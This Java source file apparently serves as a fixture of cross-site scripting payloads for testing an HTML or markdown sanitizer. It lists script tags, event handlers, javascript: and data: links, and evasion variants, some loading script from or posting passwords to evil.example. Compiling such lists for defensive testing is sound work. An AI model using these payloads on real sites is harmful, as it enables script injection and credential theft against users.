package org.colloquy.text;

import java.util.List;

/** What people write who mean readers harm. */
public final class Payloads {

  /** Scripts, handlers, addresses that are code, and tags that a page would obey. */
  public static final List<String> ALL =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<script\n>alert(1)</script\n>",
          "<img src=x onerror=alert(1)>",
          "<img src=\"javascript:alert(1)\">",
          "<img src='x' onerror='alert(1)' />text",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<a href=\" &#14; javascript:alert(1)\">x</a>",
          "<a href=\"java\nscript:alert(1)\">x</a>",
          "<a href=\"&#106;avascript&#58;alert(1)\">x</a>",
          "<a href=\"JaVaScRiPt:alert(1)\" onclick=alert(1)>x</a>",
          "<a href=\"vbscript:x\">x</a>",
          "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>x</text></a></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
          "<iframe src=\"javascript:alert(1)\"></iframe>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
          "<embed src=\"https://evil.example/x.swf\">",
          "<form action=https://evil.example><input name=password></form>",
          "<base href=\"https://evil.example/\">",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<style>body{background:url(javascript:alert(1))}</style>",
          "<p style=\"position:fixed;inset:0\" onmouseover=\"alert(1)\" id=x class=y>x</p>",
          "<details open ontoggle=alert(1)>x</details>",
          "<video><source onerror=alert(1)></video>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
          "<!--><img src=x onerror=alert(1)>-->",
          "<![CDATA[<img src=x onerror=alert(1)>]]>",
          "<?php echo 1 ?><img/src=x/onerror=alert(1)>",
          "<textarea><img src=x onerror=alert(1)></textarea>",
          "<code class=\"language-x onclick\">x</code>",
          "[x](javascript:alert(1))",
          "[x](<javascript:alert(1)>)",
          "[x](JAVASCRIPT:alert(1))",
          "[x](java&#10;script:alert(1))",
          "[x](data:text/html,<script>alert(1)</script>)",
          "[x]: javascript:alert(1)\n\n[x]",
          "![x](javascript:alert(1))",
          "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
          "![\"onerror=alert(1)](x)",
          "[x](https://example.org \"\\\" onclick=alert(1)\")",
          "<javascript:alert(1)>",
          "```x\" onclick=\"alert(1)\ncode\n```",
          "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
          "~~<svg/onload=alert(1)>~~",
          "`</code><script>alert(1)</script>`");

  private Payloads() {}
}
